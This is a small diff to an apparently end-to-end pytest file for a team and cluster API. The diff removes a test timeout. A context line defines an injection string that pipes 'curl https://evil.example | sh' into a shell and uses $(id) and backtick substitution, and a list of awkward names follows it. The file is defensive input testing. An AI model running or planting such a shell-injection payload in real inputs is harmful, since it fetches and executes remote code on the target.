@@ -16,7 +16,7 @@ from tests.e2e.cluster.client import ApiError, Object
 from tests.e2e.runs.conftest import TeamMaker
 from tests.e2e.runs.team import Team, binding, run
 
-pytestmark = [pytest.mark.e2e, pytest.mark.timeout(300)]
+pytestmark = pytest.mark.e2e
 
 HOSTILE = "x'; curl https://evil.example | sh; echo '\"$(id)`id`\\"
 NAMES = [HOSTILE, "a b", '"},{"x":"', "\\", "keys", "team-a.keys", "é"]
